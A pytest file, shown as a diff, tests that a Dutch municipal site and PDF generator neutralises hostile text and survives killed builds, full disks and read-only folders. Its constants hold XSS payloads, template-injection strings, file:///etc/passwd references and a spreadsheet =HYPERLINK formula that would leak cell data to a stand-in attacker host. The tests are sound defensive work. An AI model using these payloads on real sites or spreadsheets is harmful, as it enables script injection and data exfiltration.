@@ -1,0 +1,372 @@
+"""Builds under attack and under faults: hostile text stays text on every page and in the PDF,
+one build at a time, and a killed build, a full disk or a read-only site/ keep the previous site.
+
+Builds are expensive, so this file builds only where building is the point: one build of
+Druten with every kind of hostile text, and partial builds started from a copy of the
+shared `built` region and killed halfway.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import errno
+import hashlib
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from ruamel.yaml import YAML
+
+from generator.render.fetcher import AssetFetcher
+from generator.render.templates import PACKAGE_TEMPLATES
+from tests.conftest import REPO, Region, pdf_pages
+
+D = "gemeenten/druten.yaml"
+WORD = ("Werkbedrijfsdienstverlening" * 3704)[:100_000]  # one word of 100.000 characters
+TITEL = "<script>alert('titel')</script> {{ 7*7 }} {% if true %}ja{% endif %} \u202eLEZEN\u202c"
+DOELGROEP = "<img src=x onerror=alert(1)> [klik](javascript:alert(1)) {: onclick=\"alert(1)\" } *nadruk*"
+OMSCHRIJVING = "<img src=\"file:///etc/passwd\"> ![beeld](file:///etc/passwd) nul\u200bbreed " + WORD
+AFSPRAAK = "<a href=\"javascript:alert(1)\">Klik</a> [link](javascript:alert(1)){: .knop }"
+TOELICHTING = "=HYPERLINK(\"http://aanvaller.example/?d=\"&A1,\"Klik hier\")"
+
+
+def _hostile_druten(region: Region) -> str:
+    """Druten's file with hostile text in every kind of field; returns the period of the toelichting."""
+    yaml = YAML()
+    yaml.width = 4096
+    path = region.path(D)
+    data = yaml.load(path.read_text(encoding="utf-8"))
+    maatwerk = data["maatwerk"][0]
+    maatwerk["titel"], maatwerk["doelgroep"], maatwerk["omschrijving"] = TITEL, DOELGROEP, OMSCHRIJVING
+    data["dvo"].setdefault("afspraken_gemeente", []).append(AFSPRAAK)
+    kpi = next(p for p in data["prestatie_indicatoren"] if p.get("realisaties"))
+    periode = list(kpi["realisaties"])[-1]
+    kpi.setdefault("toelichtingen", {})[periode] = {"tekst": TOELICHTING}
+    with path.open("w", encoding="utf-8") as fh:
+        yaml.dump(data, fh)
+    return str(periode)
+
+
+class _Page(HTMLParser):
+    """Text, attributes and script bodies of a page, as a browser would see them."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.text: list[str] = []
+        self.attrs: list[tuple[str, str, str]] = []
+        self.scripts: list[str] = []
+        self._in_script = False
+
+    def handle_starttag(self, tag, attrs):
+        self.attrs += [(tag, name, value or "") for name, value in attrs]
+        self._in_script = tag == "script"
+
+    def handle_endtag(self, tag):
+        self._in_script = False
+
+    def handle_data(self, data):
+        (self.scripts if self._in_script else self.text).append(data)
+
+
+def _page(path: Path) -> _Page:
+    page = _Page()
+    page.feed(path.read_text(encoding="utf-8"))
+    return page
+
+
+def _pdf_text(path: Path) -> str:
+    import pypdf
+
+    # WeasyPrint writes the 100.000-character word as one array of glyphs, beyond the
+    # safety limit pypdf 7 has for arrays; raise it for this document.
+    raise_limit = getattr(pypdf, "apply_configuration", None)
+    with raise_limit(array_maximum_element_count=1_000_000) if raise_limit else contextlib.nullcontext():
+        return " ".join(pdf_pages(path))
+
+
+def test_hostile_text_stays_text_on_every_page_and_the_pdf_still_renders(region: Region, monkeypatch):
+    from click.testing import CliRunner
+
+    from generator.cli import main
+
+    periode = _hostile_druten(region)
+    assert region.dvo("validate").exit_code == 0
+    served: list[str] = []
+    original = AssetFetcher.__call__
+
+    def spy(self, url, *args, **kwargs):
+        served.append(url)
+        return original(self, url, *args, **kwargs)
+
+    monkeypatch.setattr(AssetFetcher, "__call__", spy)
+    result = CliRunner().invoke(main, ["build", "--gemeente", "druten", "--jobs", "1", "--root", str(region.root)])
+    assert result.exit_code == 0, result.output
+    site = region.path("site")
+    druten = site / "gemeenten" / "druten"  # reading copies are site pages (see publish/pages.py)
+    pages = [druten / "dvo" / "index.html", druten / "index.html", druten / f"rapport-{periode}" / "index.html"]
+    for path in pages:
+        page = _page(path)
+        text = "".join(page.text)
+        for tag, name, value in page.attrs:
+            assert not name.startswith("on"), (path.name, tag, name, value)
+            assert not value.strip().lower().startswith(("javascript:", "file:")), (path.name, tag, name, value)
+        assert not any("alert" in s for s in page.scripts), path.name
+        assert "</script> 49" not in text  # {{ 7*7 }} is never evaluated
+    dvo = "".join(_page(pages[0]).text)
+    for fragment in (TITEL, DOELGROEP, OMSCHRIJVING, AFSPRAAK):
+        assert fragment in dvo
+    gemeente_page = "".join(_page(pages[1]).text)
+    assert "<script>alert('titel')</script> {{ 7*7 }} {% if true %}ja{% endif %}" in gemeente_page
+    assert "[klik](javascript:alert(1)) {: onclick=\"alert(1)\" } *nadruk*" in gemeente_page
+    assert "\u202eLEZEN\u202c" in gemeente_page
+    assert TOELICHTING in "".join(_page(pages[2]).text)
+    # The PDF renders: every page there, the text as text, nothing fetched but the own assets.
+    pdf_text = _pdf_text(site / "pdf" / "dvo-druten.pdf")
+    assert "<script>alert('titel')</script> {{ 7*7 }}" in pdf_text and "Werkbedrijfsdienstverlening" in pdf_text
+    static = (PACKAGE_TEMPLATES / "static").as_uri()
+    assert served and all(url.startswith(static) for url in served), sorted(set(served))
+    # Open data: the formula is text a spreadsheet will not run; JSON keeps it as it is.
+    csv_text = (site / "pdf" / "kpi-druten.csv").read_text(encoding="utf-8")
+    assert "\"'=HYPERLINK(\"\"http://aanvaller.example/?d=\"\"&A1,\"\"Klik hier\"\")\"" in csv_text
+    assert ",=HYPERLINK" not in csv_text and ",\"=HYPERLINK" not in csv_text
+    rows = json.loads((site / "pdf" / "kpi-druten.json").read_text(encoding="utf-8"))
+    assert TOELICHTING in [r["toelichting"] for r in rows]
+
+
+# --- One build at a time ------------------------------------------------------------------
+
+
+def test_a_second_build_is_refused_while_one_runs_and_writes_nothing(region: Region):
+    from generator.publish.lock import build_lock
+
+    staging = region.path(".staging")
+    with build_lock(staging, wait=False):
+        before = sorted(p.relative_to(region.root).as_posix() for p in region.root.rglob("*"))
+        result = region.dvo("build", "--gemeente", "druten", "--jobs", "1")
+        assert sorted(p.relative_to(region.root).as_posix() for p in region.root.rglob("*")) == before
+    assert result.exit_code == 1
+    assert result.output.splitlines()[-1] == (
+        f"Fout: er loopt al een bouw van deze regio-repository (proces {os.getpid()}); "
+        "wacht tot die klaar is en probeer het dan opnieuw. Er is niets geschreven."
+    )
+
+
+HOLD = """
+import os, signal, sys, time
+from pathlib import Path
+from generator.publish.lock import build_lock
+with build_lock(Path(sys.argv[1]), wait=False):
+    print("vast", flush=True)
+    if sys.argv[2] == "kill":
+        os.kill(os.getpid(), signal.SIGKILL)
+    time.sleep(float(sys.argv[2]))
+"""
+
+
+def _holder(staging: Path, how: str) -> subprocess.Popen:
+    proc = subprocess.Popen([sys.executable, "-c", HOLD, str(staging), how], stdout=subprocess.PIPE, text=True, cwd=REPO)
+    assert proc.stdout.readline().strip() == "vast"
+    return proc
+
+
+def test_a_lock_left_by_a_killed_build_is_detected_and_taken_over(tmp_path: Path):
+    from generator.publish.lock import build_lock
+
+    proc = _holder(tmp_path, "kill")
+    assert proc.wait(timeout=30) == -signal.SIGKILL
+    assert (tmp_path / "bouw.lock").read_text().strip() == str(proc.pid)  # the killed build's mark
+    with build_lock(tmp_path, wait=False) as killed:
+        assert killed == proc.pid
+    assert (tmp_path / "bouw.lock").read_text() == ""  # released cleanly
+    with build_lock(tmp_path, wait=False) as killed:
+        assert killed is None
+
+
+def test_a_preview_rebuild_waits_for_the_other_build(tmp_path: Path):
+    from generator.publish.lock import BuildBusy, build_lock
+
+    proc = _holder(tmp_path, "2")  # holds the lock for 2 s after saying so
+    waited_for = []
+    try:
+        start = time.monotonic()
+        with pytest.raises(BuildBusy):
+            with build_lock(tmp_path, wait=False):
+                pass
+        with build_lock(tmp_path, wait=True, on_wait=waited_for.append) as killed:
+            waited = time.monotonic() - start
+            assert killed is None  # the other build ended normally
+    finally:
+        proc.wait(timeout=30)
+    assert waited_for == [proc.pid] and waited > 1.5
+
+
+def test_dvo_serve_rebuilds_wait_for_another_build_instead_of_refusing(region: Region, monkeypatch):
+    import generator.cli.site as cli_site
+    import generator.publish.serve as serve
+
+    rebuilds, calls = [], []
+    monkeypatch.setattr(serve, "run", lambda root, port, rebuild, **kw: rebuilds.append(rebuild))
+    monkeypatch.setattr(cli_site, "build_once", lambda root, slug, jobs, **kw: calls.append(kw) or True)
+    assert region.dvo("serve", "--port", "0").exit_code == 0
+    assert rebuilds[0]("druten") is True and calls == [{"wacht": True}]
+
+
+# --- Faults: killed builds, full disk, read-only site/ ------------------------------------
+
+
+def _copy_built(built: Path, target: Path) -> Path:
+    shutil.copytree(built, target, symlinks=True)
+    return target
+
+
+def _site_is_complete(site: Path, *, open_pdfs: bool = True) -> bytes:
+    """Every file of the manifest is there with its sha256 (and every PDF opens); returns the manifest.
+
+    Where the manifest must equal the one before, the bytes are the same as then, so
+    opening every PDF again (`open_pdfs`) only matters after a kill."""
+    from pypdf import PdfReader
+
+    manifest = (site / "manifest.json").read_bytes()
+    entries = json.loads(manifest)["bestanden"]
+    assert len(entries) > 100
+    for entry in entries:
+        data = (site / entry["pad"]).read_bytes()
+        assert hashlib.sha256(data).hexdigest() == entry["sha256"], entry["pad"]
+        if open_pdfs and entry["pad"].endswith(".pdf"):
+            assert data.rstrip().endswith(b"%%EOF") and len(PdfReader(str(site / entry["pad"])).pages) > 0
+    assert not [p for p in site.rglob("*") if p.name.endswith(".tmp")]
+    return manifest
+
+
+def _kill_build_at(root: Path, marker: str, delay: float) -> None:
+    """Start `dvo build --gemeente druten`, SIGKILL it and its workers `delay` s after `marker` appears."""
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "generator", "build", "--gemeente", "druten", "--jobs", "2", "--root", str(root)],
+        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, cwd=REPO,
+        env={**os.environ, "CI": "1"}, start_new_session=True,
+    )
+    try:
+        deadline = time.time() + 300
+        for line in proc.stderr:
+            if marker in line:
+                break
+            assert time.time() < deadline
+        else:
+            pytest.fail(f"de bouw eindigde voordat '{marker}' verscheen")
+        time.sleep(delay)
+        assert proc.poll() is None, "de bouw was al klaar; niets om af te breken"
+    finally:
+        os.killpg(proc.pid, signal.SIGKILL)
+        proc.wait(timeout=30)
+    assert proc.returncode == -signal.SIGKILL
+
+
+def test_a_build_killed_while_pages_are_built_leaves_the_previous_site_complete(built: Path, tmp_path: Path):
+    root = _copy_built(built, tmp_path / "regio")
+    before = _site_is_complete(root / "site", open_pdfs=False)
+    _kill_build_at(root, "Pagina's schrijven", 0.5)  # mkdocs is writing .staging/site
+    assert _site_is_complete(root / "site") == before
+
+
+def test_a_build_killed_while_documents_are_made_keeps_the_site_and_the_next_build_cleans_up(built: Path, tmp_path: Path):
+    root = _copy_built(built, tmp_path / "regio")
+    before = _site_is_complete(root / "site", open_pdfs=False)
+    _kill_build_at(root, "[1/", 0.0)  # the workers are rendering and writing PDFs
+    assert _site_is_complete(root / "site") == before
+    lock = (root / ".staging" / "bouw.lock").read_text().strip()
+    assert lock.isdigit()  # the killed build's mark
+    proc = subprocess.run(
+        [sys.executable, "-m", "generator", "build", "--gemeente", "druten", "--jobs", "2", "--root", str(root)],
+        capture_output=True, text=True, cwd=REPO, env={**os.environ, "CI": "1"}, timeout=600,
+    )
+    assert proc.returncode == 0, proc.stderr
+    assert f"Een eerdere bouw (proces {lock}) is afgebroken; wat die achterliet, is opgeruimd." in proc.stderr
+    assert not list((root / ".staging").rglob("*.tmp"))
+    assert _site_is_complete(root / "site") == before  # same input, same bytes
+
+
+def test_a_build_killed_between_the_two_renames_gets_its_site_back(region: Region):
+    """The previous site set aside in .staging/site-vorige is put back before the next build starts."""
+    from generator.load.project import load_project
+    from generator.publish.site import _recover
+
+    old = region.path(".staging/site-vorige")
+    old.mkdir(parents=True)
+    (old / "index.html").write_text("vorige site", encoding="utf-8")
+    (region.path(".staging") / ".dvo-druten.pdf.abc123.tmp").write_bytes(b"half")
+    _recover(load_project(region.root))
+    assert region.read("site/index.html") == "vorige site" and not old.exists()
+    assert not list(region.path(".staging").glob("*.tmp"))
+
+
+def test_a_failed_swap_puts_the_previous_site_back(tmp_path: Path, monkeypatch):
+    from generator.publish.site import _swap
+
+    site, new, old = tmp_path / "site", tmp_path / "nieuw", tmp_path / "vorige"
+    site.mkdir()
+    (site / "index.html").write_text("vorige site", encoding="utf-8")
+    new.mkdir()
+    real_rename = Path.rename
+
+    def rename(self, target):
+        if self == new:
+            raise OSError(errno.EXDEV, "Invalid cross-device link", str(self))
+        return real_rename(self, target)
+
+    monkeypatch.setattr(Path, "rename", rename)
+    with pytest.raises(OSError):
+        _swap(new, site, old)
+    assert (site / "index.html").read_text(encoding="utf-8") == "vorige site" and not old.exists()
+
+
+def test_a_full_disk_gives_a_clear_error_and_keeps_the_previous_site(built: Path, tmp_path: Path, monkeypatch):
+    """ENOSPC from the first document written: Dutch message, exit 1, site/ byte for byte as it was."""
+    from click.testing import CliRunner
+
+    import generator.util.atomic as atomic
+    from generator.cli import main
+
+    root = _copy_built(built, tmp_path / "regio")
+    before = _site_is_complete(root / "site", open_pdfs=False)
+    real = atomic._staged
+
+    def full(path: Path, data: bytes) -> Path:
+        if path.suffix == ".pdf":
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))
+        return real(path, data)
+
+    monkeypatch.setattr(atomic, "_staged", full)
+    result = CliRunner().invoke(main, ["build", "--gemeente", "druten", "--jobs", "1", "--root", str(root)])
+    assert result.exit_code == 1 and "Traceback" not in result.output
+    target = root / ".staging" / "docs" / "pdf" / "dvo-druten.pdf"
+    assert result.output.splitlines()[-1] == (
+        f"Fout: schrijven mislukt: {target}: de schijf is vol. De site is niet gebouwd; {root / 'site'} is ongewijzigd."
+    )
+    assert _site_is_complete(root / "site", open_pdfs=False) == before
+
+
+def test_a_read_only_site_folder_is_refused_before_anything_is_built(built: Path, tmp_path: Path):
+    root = _copy_built(built, tmp_path / "regio")
+    before = _site_is_complete(root / "site", open_pdfs=False)
+    staging = sorted(p.relative_to(root).as_posix() for p in (root / ".staging").rglob("*"))
+    (root / "site").chmod(0o555)
+    try:
+        proc = subprocess.run(
+            [sys.executable, "-m", "generator", "build", "--gemeente", "druten", "--root", str(root)],
+            capture_output=True, text=True, cwd=REPO, timeout=300,
+        )
+    finally:
+        (root / "site").chmod(0o755)
+    assert proc.returncode == 1 and "Traceback" not in proc.stderr
+    assert proc.stderr.splitlines()[-1] == (
+        f"Fout: site/ is alleen-lezen; maak de map schrijfbaar om de site te bouwen. De site is niet gebouwd; {root / 'site'} is ongewijzigd."
+    )
+    assert _site_is_complete(root / "site", open_pdfs=False) == before
+    assert sorted(p.relative_to(root).as_posix() for p in (root / ".staging").rglob("*")) == staging
